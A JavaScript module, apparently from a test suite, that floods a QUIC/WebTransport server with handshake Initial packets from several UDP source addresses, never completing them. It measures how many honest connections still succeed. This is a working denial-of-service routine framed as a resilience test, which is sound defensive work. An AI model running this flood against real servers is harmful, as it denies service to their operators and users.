/**
 * Begins QUIC connections and finishes none, and counts how newcomers fare in that time.
 * @import { Attack } from '../support/attack-process.js'
 */

import { createSocket } from 'node:dgram';
import { setTimeout as pause } from 'node:timers/promises';
import { Endpoint } from '@aloud/native';
import { answerOf } from '../support/answer.js';
import { Handshake } from '../support/quic-initial.js';

/** The time between two honest connections, in milliseconds. */
const HONEST_EVERY_MS = 250;

/** The most sockets of the attacker's, each an address that has to prove itself. */
const SOCKETS = 4;

/**
 * @type {Attack} options: { aSecond: number, answers: boolean } whether it proves its address where
 *   it is asked to
 */
export async function attack({ origin, host, h3Port, from, isOver }, { aSecond, answers }) {
  const counted = { begun: 0, retries: 0, honest: 0, refused: 0 };
  const sockets = Array.from({ length: SOCKETS }, () => createSocket('udp4'));
  const [a, b, c] = from.split('.');
  sockets.forEach((socket, i) => socket.bind(0, `${a}.${b}.${c}.${10 + i}`));
  /** @type {Handshake[]} */
  const recent = [];
  for (const socket of sockets) {
    socket.on('error', () => {});
    socket.on('message', (packet) => {
      if (!answers) return;
      for (const handshake of recent) {
        const again = handshake.again(packet);
        if (!again) continue;
        counted.retries += 1;
        socket.send(again, /** @type {number} */ (h3Port), host);
        return;
      }
    });
  }
  const honest = honestly({ origin, host, h3Port, isOver }, counted);
  const startMs = performance.now();
  while (!isOver()) {
    const due = ((performance.now() - startMs) / 1000) * aSecond;
    for (; counted.begun < due; counted.begun++) {
      const handshake = new Handshake();
      recent.push(handshake);
      if (recent.length > 64) recent.shift();
      sockets[counted.begun % SOCKETS].send(
        handshake.first(),
        /** @type {number} */ (h3Port),
        host,
      );
    }
    await pause(5);
  }
  await honest;
  for (const socket of sockets) socket.close();
  return counted;
}

/**
 * Opens sessions as anybody does, one after another.
 * @param {Pick<import('../support/attack-process.js').Target, 'origin' | 'host' | 'h3Port' |
 *   'isOver'>} target
 * @param {{ honest: number, refused: number }} counted
 */
async function honestly({ origin, host, h3Port, isOver }, counted) {
  const { transports } = await answerOf(`${origin}/api/config`);
  const endpoint = new Endpoint({ ioThreads: 1, handshakeTimeoutMs: 2000 });
  while (!isOver()) {
    try {
      const url = `https://${host}:${h3Port}${transports.webtransport.url}`;
      const session = await endpoint.connect(url, {
        certificateHashes: transports.webtransport.certificateHashes,
      });
      counted.honest += 1;
      session.close();
    } catch {
      counted.refused += 1;
    }
    await pause(HONEST_EVERY_MS);
  }
  await endpoint.close();
}
